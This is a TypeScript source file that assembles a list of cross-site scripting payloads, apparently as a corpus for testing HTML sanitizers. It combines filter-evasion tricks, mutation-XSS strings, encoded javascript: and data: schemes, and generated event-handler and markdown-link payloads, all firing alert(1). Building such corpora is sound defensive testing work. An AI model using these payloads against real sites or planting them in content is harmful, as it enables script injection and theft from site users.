/** Elements that load, frame, swallow or rewrite what is around them, and plain ones. */
const ELEMENTS =
  'img svg video audio body iframe object embed form input button details marquee math style a p div select template xmp'
const HANDLERS = 'onerror onload onclick onfocus ontoggle onmouseover onanimationstart'
const SCHEMES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  '&#0000106avascript:alert(1)',
  '&#x6A;avascript:alert(1)',
  '&#1;javascript:alert(1)',
  'vbscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>'
]

/** Ways past those who look for tags with a pattern, or who parse otherwise than browsers do. */
const CROOKED = [
  '<script>alert(1)</script>',
  '<ScRiPt >alert(1)</sCrIpT\n>',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script/x>',
  '<script src=data:,alert(1)></script>',
  '<img src=x onerror=alert(1)',
  '<img src=x onerror=alert(1)//',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img """><script>alert(1)</script>">',
  '<img src=x:alert(alt) onerror=eval(src) alt=1>',
  '<IMG/SRC/onerror\n=\nalert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--x--!><img src=x onerror=alert(1)>-->',
  '<!-- --><img src=x onerror=alert(1)><!-- -->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><style><img src=x onerror=alert(1)></style></math>',
  '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1)></svg>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<style><p title="</style><img src=x onerror=alert(1)>">',
  '<abbr title="`onmouseover=alert(1)`">x</abbr>',
  '<a href="x" title="\'><img src=x onerror=alert(1)>">x</a>',
  '<a title="x"onclick=alert(1) href=x>x</a>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<table background=javascript:alert(1)><td>x',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href=javascript:alert(1)//>',
  '<form action=javascript:alert(1)><button>x</button></form>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<p style="background:url(javascript:alert(1))">x',
  '<p class="x" id="session" data-seal="x" onclick=alert(1)>x</p>',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '`-alert(1)-`',
  '{{constructor.constructor("alert(1)")()}}',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '\ufeff<script>alert(1)</script>',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'
]

/** Scripts as people try to plant them, made by rule; the corpora of others hold many more. */
export const ATTACKS: readonly string[] = [
  ...CROOKED,
  ...ELEMENTS.split(' ').flatMap((element) =>
    HANDLERS.split(' ').map((handler) => `<${element} src=x ${handler}=alert(1)>x</${element}>`)
  ),
  ...SCHEMES.flatMap((address) => [
    `<a href="${address}">x</a>`,
    `<img src='${address}'>`,
    `<a title="x" href='${address}'>x</a>`,
    `<a rel=x href="${address}"><b>x</b></a>`,
    `[x](${address})`,
    `![x](<${address}>)`
  ])
]
